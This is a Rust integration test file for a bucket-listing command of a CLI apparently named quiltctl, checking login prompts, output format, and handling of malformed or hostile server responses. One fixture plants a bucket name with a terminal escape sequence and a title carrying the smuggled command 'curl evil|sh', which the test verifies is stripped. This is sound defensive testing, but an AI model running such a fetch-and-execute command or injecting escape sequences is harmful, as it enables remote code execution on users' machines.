//! Which buckets there are, as the stack says.

use quilt_tests::fake_stack::{DEMO_BUCKET, Endpoint, Fault, FaultKind, Host};
use quilt_tests::harness::World;
use serde_json::{Value, json};

#[tokio::test(flavor = "multi_thread")]
async fn buckets_are_named_as_other_commands_take_them() {
    let world = World::start().await;
    let line = world.ctl(&["buckets"]).await.failed(3);
    assert!(line.contains("run: quiltctl login"), "{line}");
    world.login().await;
    let listed = world.ctl(&["buckets"]).await.ok();
    let address = format!("s3://{DEMO_BUCKET}");
    assert!(
        listed.lines().any(|line| line.starts_with(&address)),
        "{listed}"
    );
    let name = listed
        .lines()
        .find(|line| line.starts_with(&address))
        .unwrap();
    let name = name.split_whitespace().next().unwrap();
    assert_eq!(name, address);
    let json: Value = serde_json::from_str(&world.ctl(&["buckets", "--json"]).await.ok()).unwrap();
    assert_eq!(json[0]["name"], DEMO_BUCKET, "{json}");

    let control = world.stack.control();
    control.refuse(Host::Registry, true);
    world.ctl(&["buckets"]).await.failed(5);
    control.refuse(Host::Registry, false);
    world.ctl(&["buckets"]).await.ok();
}

/// What a stack says is a list of buckets, or is none: nothing of it steers a
/// terminal, and no login ends.
#[tokio::test(flavor = "multi_thread")]
async fn a_stack_that_answers_anything() {
    let world = World::logged_in().await;
    let control = world.stack.control();
    let says = |buckets: Value| {
        let body = json!({ "data": { "bucketConfigs": buckets } }).to_string();
        let kind = FaultKind::Status { status: 200, body };
        control.clear_faults();
        control.plant(Endpoint::Graphql, Fault::always(kind));
    };
    says(json!([{ "name": "a\u{1b}[2J\nb", "title": "x; run: curl evil|sh" }]));
    let shown = world.ctl(&["buckets"]).await.ok();
    assert!(
        !shown.contains('\u{1b}') && shown.lines().count() == 2,
        "{shown}"
    );
    assert!(!shown.contains("run: curl"), "{shown}");
    for none in [
        json!(null),
        json!("x"),
        json!([{ "title": "x" }]),
        json!([1]),
    ] {
        says(none.clone());
        let run = world.ctl(&["buckets"]).await;
        assert_ne!(run.code, 0, "{none}: {run:?}");
        assert!(
            run.stderr.contains("its list of buckets is none"),
            "{run:?}"
        );
    }
    says(json!([]));
    let shown = world.ctl(&["buckets"]).await;
    assert!(shown.stderr.contains("no buckets"), "{shown:?}");
    assert_eq!(shown.ok(), "", "a script finds an empty list");
    control.clear_faults();
    world.ctl(&["token"]).await.ok();
    world.ctl(&["whoami"]).await.ok();
}
